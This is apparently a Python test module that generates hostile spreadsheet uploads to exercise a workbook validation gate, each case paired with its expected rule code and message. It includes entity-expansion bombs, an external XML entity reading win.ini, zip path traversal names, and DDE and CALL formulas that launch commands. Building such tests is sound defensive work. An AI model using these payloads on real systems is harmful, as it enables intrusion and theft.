"""Files that somebody might send instead of a workbook: one evil each, made from nothing or from a valid workbook.

Each is refused, or found out, with one finding of the rule named here, whose message says what is named here.
"""

import struct
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from io import BytesIO
from typing import NamedTuple
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from schemas.scheme_files import load_scheme
from tests.tampering import RELATION, linked
from tests.valid import valid_workbook
from workbook.files.package import MAIN, open_package
from workbook.gate import MAX_ENTRIES, MAX_UNPACKED

Parts = dict[str, bytes]
BOOK, RELS, TYPES, APP = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml", "docProps/app.xml"
STRINGS = "xl/sharedStrings.xml"
SHEET = "xl/worksheets/sheet2.xml"
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///c:/windows/win.ini">]>'
DTD = '<!DOCTYPE x SYSTEM "http://example.invalid/x.dtd">'


class Hostile(NamedTuple):
    """A file, the rule that finds it out, and what its message says."""

    name: str
    data: bytes
    code: str
    says: str


class Evil(NamedTuple):
    """How a hostile file comes about."""

    name: str
    make: Callable[[], bytes]
    code: str
    says: str


def hostile_files() -> Iterator[tuple[str, bytes]]:
    """(name, content) of every hostile file."""
    yield from ((hostile.name, hostile.data) for hostile in hostile_cases())


def hostile_cases() -> Iterator[Hostile]:
    """Every hostile file, with what must be said of it."""
    for evil in (*DISGUISES, *BROKEN_ZIPS, *TRICKS, *HOSTILE_XML, *LYING_SHEETS, *LYING_BOOKS, *ACTIVE):
        yield Hostile(f"{evil.name}.xlsx", evil.make(), evil.code, evil.says)


@cache
def valid() -> bytes:
    return valid_workbook(load_scheme("national-2020"))


def parts() -> Parts:
    """The parts of the valid workbook, to be changed."""
    return dict(open_package(valid()).parts)


def packed(content: Parts, method: int = ZIP_DEFLATED) -> bytes:
    stream = BytesIO()
    with ZipFile(stream, "w", method) as target:
        for name, part in content.items():
            target.writestr(ZipInfo(name, (1980, 1, 1, 0, 0, 0)), part, method)
    return stream.getvalue()


def zipped(*names: str, **content: bytes) -> Callable[[], bytes]:
    """A zip with these members, that is something else than a workbook."""
    return lambda: packed({**dict.fromkeys(names, b"<x/>"), **content})


def of(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def ole(stream: str) -> Callable[[], bytes]:
    """An OLE2 file with one stream of that name in its directory."""
    entry = stream.encode("utf-16-le").ljust(64, b"\0")
    return of(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "Root Entry".encode("utf-16-le").ljust(64, b"\0") + entry
    )


def swapped(part: str, old: str, new: str) -> Callable[[], bytes]:
    """The valid workbook with a piece of one part replaced, once."""

    def make() -> bytes:
        content = parts()
        text = content[part].decode()
        assert old in text, (part, old)
        content[part] = text.replace(old, new, 1).encode()
        return packed(content)

    return make


def having(part: str, content: bytes) -> Callable[[], bytes]:
    """The valid workbook with one part replaced or added."""
    return lambda: packed({**parts(), part: content})


def lacking(part: str) -> Callable[[], bytes]:
    """The valid workbook without a part."""
    return lambda: packed({name: content for name, content in parts().items() if name != part})


def recoded(part: str, encoding: str, declared: str, head: str = "") -> Callable[[], bytes]:
    """The valid workbook with a part in another encoding."""

    def make() -> bytes:
        content = parts()
        body = content[part].decode().partition("?>")[2] or content[part].decode()
        content[part] = f'<?xml version="1.0" encoding="{declared}"?>{head}{body}'.encode(encoding)
        return packed(content)

    return make


def declaring(part: str, doctype: str, old: str = "", new: str = "") -> Callable[[], bytes]:
    """The valid workbook with a DOCTYPE in one part, and its entity used."""

    def make() -> bytes:
        content = parts()
        text = content[part].decode().replace(old, new, 1) if old else content[part].decode()
        head, end, body = text.partition("?>")
        content[part] = (head + end + doctype + body if end else doctype + text).encode()
        return packed(content)

    return make


def patched(do: Callable[[bytearray, ZipInfo], None], part: str = SHEET) -> Callable[[], bytes]:
    """The valid workbook after a change to the bytes of one entry, whose directory record is given."""

    def make() -> bytes:
        data = bytearray(valid())
        with ZipFile(BytesIO(data)) as package:
            do(data, package.getinfo(part))
        return bytes(data)

    return make


def _record(data: bytearray, entry: ZipInfo) -> int:
    """Where an entry's record begins in the central directory."""
    directory = data.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, directory + 16)[0]
    return data.index(entry.filename.encode(), start) - 46


def _both(offset_local: int, offset_central: int, form: str, value: int) -> Callable[[bytearray, ZipInfo], None]:
    def do(data: bytearray, entry: ZipInfo) -> None:
        struct.pack_into(form, data, entry.header_offset + offset_local, value)
        struct.pack_into(form, data, _record(data, entry) + offset_central, value)

    return do


def _central(offset: int, form: str, value: Callable[[ZipInfo], int]) -> Callable[[bytearray, ZipInfo], None]:
    def do(data: bytearray, entry: ZipInfo) -> None:
        struct.pack_into(form, data, _record(data, entry) + offset, value(entry))

    return do


def _local_magic(data: bytearray, entry: ZipInfo) -> None:
    data[entry.header_offset] = 0


def _local_name(data: bytearray, entry: ZipInfo) -> None:
    data[entry.header_offset + 30] ^= 1


def _garbled(data: bytearray, entry: ZipInfo) -> None:
    start = entry.header_offset + 30 + len(entry.filename) + 40
    data[start : start + 40] = bytes(40)


def _shortened(data: bytearray, entry: ZipInfo) -> None:
    """Declares ten bytes, and the checksum of these ten."""
    with ZipFile(BytesIO(bytes(data))) as package:
        head = package.read(entry)[:10]
    at = _record(data, entry)
    struct.pack_into("<I", data, at + 24, 10)
    struct.pack_into("<I", data, at + 16, zlib.crc32(head))


def _doubled(first: str, second: str, content: bytes = b"<x/>") -> Callable[[], bytes]:
    """A part under two names that some program takes for one."""

    def make() -> bytes:
        stream = BytesIO(valid())
        with ZipFile(stream, "a", ZIP_DEFLATED) as target:
            info = ZipInfo(second)
            info.filename = second
            target.NameToInfo.pop(first, None)
            target.writestr(info, content)
        return stream.getvalue()

    return make


def _overlapping() -> bytes:
    """Every entry's record leads to the data of the first."""
    data = bytearray(packed({**parts(), "xl/a.bin": b"a" * 500, "xl/b.bin": b"a" * 500}))
    with ZipFile(BytesIO(data)) as package:
        first, second = package.getinfo("xl/a.bin"), package.getinfo("xl/b.bin")
    struct.pack_into("<I", data, _record(data, second) + 42, first.header_offset)
    return bytes(data)


def _cells(*rows: str, head: str = "") -> Callable[[], bytes]:
    """The valid workbook whose first sheet, the guide, holds these rows and nothing else."""
    sheet = f'<worksheet xmlns="{MAIN.strip("{}")}">{head}<sheetData>{"".join(rows)}</sheetData></worksheet>'
    return having("xl/worksheets/sheet1.xml", sheet.encode())


def _formula(text: str) -> Callable[[], bytes]:
    """The valid workbook whose guide holds one formula."""
    return _cells(f'<row r="1"><c r="A1"><f>{text}</f><v>1</v></c></row>')


def _many_cells(count: int) -> Iterator[str]:
    for row in range(1, count // 100 + 1):
        yield f'<row r="{row}">' + "".join(f'<c r="{column}{row}"><v>1</v></c>' for column in _COLUMNS) + "</row>"


_COLUMNS = [first + second for first in ("", "A", "B", "C") for second in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"][:100]


def _tab(name: str) -> Callable[[], bytes]:
    """The valid workbook with its first sheet renamed, as it is spelt in XML."""
    return swapped(BOOK, 'name="填报说明"', f'name="{name}"')


def _many_entries() -> bytes:
    return packed({**parts(), **{f"xl/media/{number}.bin": b"" for number in range(MAX_ENTRIES)}})


def _nested(depth: int) -> bytes:
    return b"<a>" * depth + b"</a>" * depth


_TEXT = "项目,金额\n某项目,5.8\n"
DISGUISES = (
    Evil("空文件", of(b""), "I101", "空的"),
    Evil("全是零", of(bytes(4096)), "I101", "空字节"),
    Evil("PDF", of(b"%PDF-1.7\n"), "I101", "PDF"),
    Evil("RTF", of(b"{\\rtf1 x}"), "I101", "RTF"),
    Evil("旧版xls", ole("Workbook"), "I101", "旧版 .xls"),
    Evil("更旧的xls", ole("Book"), "I101", "旧版 .xls"),
    Evil("加密", ole("EncryptedPackage"), "I101", "打开密码"),
    Evil("旧版doc", ole("WordDocument"), "I101", "旧版 Word"),
    Evil("旧版ppt", ole("PowerPoint Document"), "I101", "演示文稿"),
    Evil("不明的旧格式", ole("Contents"), "I101", "旧版 Office"),
    Evil("PNG", of(b"\x89PNG\r\n\x1a\n" + bytes(20)), "I101", "图片"),
    Evil("JPEG", of(b"\xff\xd8\xff\xe0" + bytes(20)), "I101", "图片"),
    Evil("7z", of(b"7z\xbc\xaf\x27\x1c" + bytes(20)), "I101", "压缩包"),
    Evil("RAR", of(b"Rar!\x1a\x07\x01\0"), "I101", "压缩包"),
    Evil("gzip", of(b"\x1f\x8b\x08\0" + bytes(20)), "I101", "压缩包"),
    Evil("程序", of(b"MZ\x90\0" + bytes(60)), "I101", "程序"),
    Evil("快捷方式", of(b"L\0\0\0\x01\x14\x02\0" + bytes(60)), "I101", "快捷方式"),
    Evil("CSV", of(_TEXT.encode()), "I101", "CSV"),
    Evil("CSV国标", of(_TEXT.encode("gb18030")), "I101", "CSV"),
    Evil("CSV双字节", of(_TEXT.encode("utf-16")), "I101", "CSV"),
    Evil("网页", of(b"<html><table><tr><td>1</td></tr></table></html>"), "I101", "网页"),
    Evil("单个文件网页", of(b"MIME-Version: 1.0\r\n"), "I101", "网页"),
    Evil("XML表格2003", of(b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'), "I101", "XML 表格"),
    Evil("标文通", of(b'<uof:UOF xmlns:uof="http://schemas.uof.org/cn/2009/uof"/>'), "I101", "标文通"),
    Evil("乱字节", of(bytes(range(256)) * 8), "I101", "认不出"),
    Evil("ODS", zipped(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"), "I101", "OpenDocument"),
    Evil("Word", zipped(TYPES, "word/document.xml"), "I101", "Word"),
    Evil("演示文稿", zipped(TYPES, "ppt/presentation.xml"), "I101", "演示文稿"),
    Evil("二进制工作簿", zipped(TYPES, "xl/workbook.bin"), "I101", "xlsb"),
    Evil("Numbers", zipped("Index/Document.iwa"), "I101", "Numbers"),
    Evil("OFD", zipped("OFD.xml"), "I101", "OFD"),
    Evil("压缩包", lambda: packed({"某单位.xlsx": valid()}), "I101", "压缩包"),
    Evil("空压缩包", zipped(), "I101", "空的压缩包"),
    Evil("别人的工作簿", lambda: _others(), "I101", "不是 ziping"),
)
BROKEN_ZIPS = (
    Evil("截断一半", lambda: valid()[: len(valid()) // 2], "I107", "不完整"),
    Evil("缺最后一字节", lambda: valid()[:-1], "I107", "不完整"),
    Evil("只剩文件头", of(b"PK\x03\x04" + bytes(100)), "I107", "不完整"),
    Evil("末尾多出", lambda: valid() + b"\0" * 100, "I107", "末尾"),
    Evil("两个包相连", lambda: packed({"a": b"a"}) + valid(), "I107", "开头"),
    Evil("部件头损坏", patched(_local_magic), "I107", "已损坏"),
    Evil("部件头另有名称", patched(_local_name), "I107", "已损坏"),
    Evil("校验码不符", patched(_central(16, "<I", lambda entry: entry.CRC ^ 1)), "I107", "已损坏"),
    Evil("长度少报", patched(_shortened), "I107", "已损坏"),
    Evil("长度多报", patched(_central(24, "<I", lambda entry: entry.file_size + 1)), "I107", "已损坏"),
    Evil("压缩内容损坏", patched(_garbled), "I107", "已损坏"),
    Evil("部件在文件之外", patched(_central(42, "<I", lambda entry: 2**31)), "I107", "已损坏"),
    Evil("别的压缩方法", lambda: packed(parts(), ZIP_BZIP2), "I107", "压缩方法"),
    Evil("未知的压缩方法", patched(_both(8, 10, "<H", 99)), "I107", "压缩方法"),
    Evil("缺工作表部件", lacking(SHEET), "I107", "缺少"),
    Evil("缺工作簿部件", lacking(BOOK), "I107", "缺少"),
    Evil("缺关系", lacking("_rels/.rels"), "I107", "没有工作簿"),
    Evil("缺工作簿关系", lacking(RELS), "I107", "没有内容"),
)
TRICKS = (
    Evil("部件加密", patched(_both(6, 8, "<H", 1)), "I101", "加了密码"),
    Evil("压缩炸弹", having("xl/media/image1.bmp", bytes(30 * 2**20)), "I108", "压缩炸弹"),
    Evil("空格炸弹", having(APP, b"<a>" + b" " * 2**24 + b"</a>"), "I108", "压缩炸弹"),
    Evil("解开过大", patched(_central(24, "<I", lambda entry: MAX_UNPACKED)), "I108", "过大"),
    Evil("文字过多", lambda: packed({**parts(), APP: b"<a>" + b"\n" * 2**26 + b"</a>"}, ZIP_STORED), "I101", "过大"),
    Evil("部件过多", _many_entries, "I108", "部件"),
    Evil("部件重叠", _overlapping, "I108", "重叠"),
    Evil("部件重名", _doubled(SHEET, SHEET), "I108", "重名"),
    Evil("大小写重名", _doubled("", SHEET.upper()), "I108", "重名"),
    Evil("绝对路径", having("/etc/passwd", b"x"), "I108", "指向别处"),
    Evil("上级路径", having("../../evil.bat", b"x"), "I108", "指向别处"),
    Evil("中间的上级路径", having("xl/../../evil.bat", b"x"), "I108", "指向别处"),
    Evil("盘符", having("C:/evil.bat", b"x"), "I108", "指向别处"),
    Evil("反斜杠", having("xl\\evil.bat", b"x"), "I108", "指向别处"),
    Evil("控制字符路径", having("xl/a\nb.xml", b"<x/>"), "I108", "控制字符"),
    Evil("空字符路径", patched(lambda data, entry: _nul_name(data, entry)), "I108", "控制字符"),
)
HOSTILE_XML = (
    Evil("实体炸弹-文字表", having(STRINGS, f"{LAUGHS}<sst>&c;</sst>".encode()), "I108", "DTD"),
    Evil("实体炸弹-工作表", declaring(SHEET, LAUGHS), "I108", "DTD"),
    Evil("实体炸弹-工作簿", declaring(BOOK, LAUGHS), "I108", "DTD"),
    Evil("实体炸弹-类型", declaring(TYPES, LAUGHS), "I108", "DTD"),
    Evil("实体炸弹-关系", declaring(RELS, LAUGHS), "I108", "DTD"),
    Evil("实体炸弹-样式", declaring("xl/styles.xml", LAUGHS), "I108", "DTD"),
    Evil("外部实体", declaring(SHEET, OUTSIDE), "I108", "DTD"),
    Evil("外部DTD", declaring(SHEET, DTD), "I108", "DTD"),
    Evil("实体-双字节", recoded(SHEET, "utf-16", "UTF-16", LAUGHS), "I108", "DTD"),
    Evil("实体-双字节无标记", recoded(SHEET, "utf-16-le", "UTF-16", LAUGHS), "I108", "DTD"),
    Evil("实体-换名部件", having("customXml/item1.dat", f"{LAUGHS}<x>&c;</x>".encode()), "I108", "DTD"),
    Evil("实体-旧式图形", having("xl/drawings/vmlDrawing1.vml", f"{LAUGHS}<xml>&c;</xml>".encode()), "I108", "DTD"),
    Evil("UTF-7", recoded(SHEET, "utf-8", "UTF-7"), "I108", "编码"),
    Evil("GBK", recoded(SHEET, "gbk", "GBK"), "I108", "编码"),
    Evil("单引号UTF-7", having(APP, b"<?xml version='1.0' encoding='utf-7'?><a/>"), "I108", "编码"),
    Evil("UTF-32", recoded(SHEET, "utf-32", "UTF-32"), "I107", "XML"),
    Evil("大型机编码", recoded(APP, "cp037", "cp037"), "I107", "XML"),
    Evil("两种编码", having(APP, b'<?xml version="1.0"?><a>' + "<b/>".encode("utf-16") + b"</a>"), "I107", "XML"),
    Evil("XML截断", lambda: _cut(SHEET), "I107", "XML"),
    Evil("标记交错", having(APP, b"<a><b></a></b>"), "I107", "XML"),
    Evil("不允许的字符", having(APP, b"<a>\x01</a>"), "I107", "XML"),
    Evil("空部件", having(APP, b""), "I107", "XML"),
    Evil("层层嵌套-属性", having(APP, _nested(500)), "I108", "嵌套"),
    Evil("层层嵌套-文字表", having(STRINGS, _nested(5000)), "I108", "嵌套"),
    Evil("层层嵌套-工作表", swapped(SHEET, "<sheetData>", f"{_nested(1000).decode()}<sheetData>"), "I107", "损坏"),
    Evil("标记名过长", having(APP, b"<" + b"a" * 10_000 + b"/>"), "I108", "标记"),
    Evil("属性过多", having(APP, b"<a" + b"".join(b' b%d="1"' % n for n in range(5000)) + b"/>"), "I108", "标记"),
)
LYING_SHEETS = (
    Evil("最远的格", _cells('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "I107", "远在表格之外"),
    Evil("远处的公式", _cells('<row r="30000"><c r="A30000"><f>1+1</f></c></row>'), "I107", "远在表格之外"),
    Evil("表外的列", _cells('<row r="1"><c r="ZZZ1"><v>1</v></c></row>'), "I107", "远在表格之外"),
    Evil("没有的列", _cells('<row r="1"><c r="ZZZZZZZ1"><v>1</v></c></row>'), "I107", "位置无效"),
    Evil("第零行", _cells('<row r="0"><c r="A0"><v>1</v></c></row>'), "I107", "损坏"),
    Evil("天文数字的行", _cells('<row r="99999999999"><c><v>1</v></c></row>'), "I107", "损坏"),
    Evil("负数的行", _cells('<row r="-1"><c><v>1</v></c></row>'), "I107", "损坏"),
    Evil("非法的位置", _cells('<row r="1"><c r="?"><v>1</v></c></row>'), "I107", "位置无效"),
    Evil(
        "范围少报", _cells('<row r="5"><c r="B5"><v>1</v></c></row>', head='<dimension ref="A1:B4"/>'), "I107", "范围"
    ),
    Evil(
        "范围不是范围", _cells('<row r="5"><c r="B5"><v>1</v></c></row>', head='<dimension ref="?"/>'), "I107", "损坏"
    ),
    Evil("一格两份", _cells('<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>'), "I107", "对不上"),
    Evil(
        "一行两份",
        _cells('<row r="1"><c r="A1"><v>1</v></c></row><row r="1"><c r="A1"><v>2</v></c></row>'),
        "I107",
        "对不上",
    ),
    Evil("一格两个公式", _cells('<row r="1"><c r="A1"><f>1</f></c><c r="A1"><f>2</f></c></row>'), "I107", "同一位置"),
    Evil("一格两值", _cells('<row r="1"><c r="A1"><v>1</v><v>2</v></c></row>'), "I107", "两个值"),
    Evil("文字编号越界", _cells('<row r="1"><c r="A1" t="s"><v>9999</v></c></row>'), "I107", "读不出来"),
    Evil("文字编号为负", _cells('<row r="1"><c r="A1" t="s"><v>-1</v></c></row>'), "I107", "说不清"),
    Evil("未知的类型", _cells('<row r="1"><c r="A1" t="zz"><v>1</v></c></row>'), "I107", "说不清"),
    Evil("不是真假", _cells('<row r="1"><c r="A1" t="b"><v>7</v></c></row>'), "I107", "说不清"),
    Evil("内容过多", lambda: _cells(*_many_cells(600_000))(), "I107", "过多"),
    Evil("散在各处", _cells(*(f'<row r="{n}"><c r="ALL{n}"><v>1</v></c></row>' for n in (1, 20_000))), "I107", "过多"),
    Evil("写法不常见又过大", lambda: _cells("<!--x-->", *_many_cells(250_000))(), "I107", "不常见"),
    Evil("没有根", having(SHEET, b"<x/>"), "I107", "损坏"),
    Evil("没有格", having(SHEET, f'<worksheet xmlns="{MAIN.strip("{}")}"/>'.encode()), "I107", "损坏"),
)
LYING_BOOKS = (
    Evil("重名的工作表", _tab("单位信息"), "I107", "重名"),
    Evil("大小写重名的工作表", _tab("_ZIPING"), "I107", "重名"),
    Evil("工作表名有换行", _tab("填报&#10;说明"), "I107", "看不见的字符"),
    Evil("工作表名有倒写符", _tab("填报\u202e说明"), "I107", "看不见的字符"),
    Evil("工作表没有名", _tab(""), "I107", "为空"),
    Evil("两表一份内容", lambda: _one_part_twice(), "I107", "同一份内容"),
    Evil("只有图表工作表", lambda: _charts_only(), "I107", "没有工作表"),
    Evil("两个工作簿", lambda: _two_books(), "I107", "不止一个"),
    Evil(
        "ISO严格格式",
        swapped(BOOK, MAIN.strip("{}"), "http://purl.oclc.org/ooxml/spreadsheetml/main"),
        "I101",
        "Strict",
    ),
    Evil("工作簿不是工作簿", having(BOOK, b"<x/>"), "I101", "没有工作簿"),
)
ACTIVE = (
    Evil("外部链接", lambda: linked("file:///c:/a.xlsx")(valid()), "I301", "别的工作簿"),
    Evil("取数于别的工作簿", _formula("[1]Sheet1!A1"), "I301", "别的工作簿"),
    Evil("DDE", _formula("cmd|'/c calc'!A0"), "I301", "以外"),
    Evil("DDE藏在式中", _formula('"x"&amp;cmd|"/c calc"!A0'), "I301", "以外"),
    Evil("网络取数", _formula('_xlfn.WEBSERVICE("http://example.invalid/"&amp;A1)'), "I301", "以外"),
    Evil("调用程序", _formula('CALL("Shell32","ShellExecuteA","JJC",0,"open")'), "I301", "以外"),
    Evil("宏", having("xl/vbaProject.bin", b"x"), "I302", "宏"),
    Evil("旧式宏表", having("xl/macrosheets/sheet1.xml", b"<x/>"), "I302", "宏"),
)


def _others() -> bytes:
    """A workbook that was not made from our template."""
    content = parts()
    return packed({**content, BOOK: content[BOOK].replace(b"_ziping", b"other").replace(b"zp_", b"xx_")})


def _nul_name(data: bytearray, entry: ZipInfo) -> None:
    for start in (entry.header_offset + 30, _record(data, entry) + 46):
        data[start + 3] = 0


def _cut(part: str) -> bytes:
    content = parts()
    return packed({**content, part: content[part][:-30]})


def _one_part_twice() -> bytes:
    content = parts()
    text = content[RELS].decode()
    return packed({**content, RELS: text.replace("worksheets/sheet2.xml", "worksheets/sheet1.xml").encode()})


def _charts_only() -> bytes:
    content = parts()
    return packed({**content, RELS: content[RELS].replace(b'/worksheet"', b'/chartsheet"')})


def _two_books() -> bytes:
    content = parts()
    second = f'<Relationship Id="rId99" Type="{RELATION}/officeDocument" Target="xl/other.xml"/></Relationships>'
    rels = content["_rels/.rels"].replace(b"</Relationships>", second.encode())
    return packed({**content, "_rels/.rels": rels, "xl/other.xml": content[BOOK]})
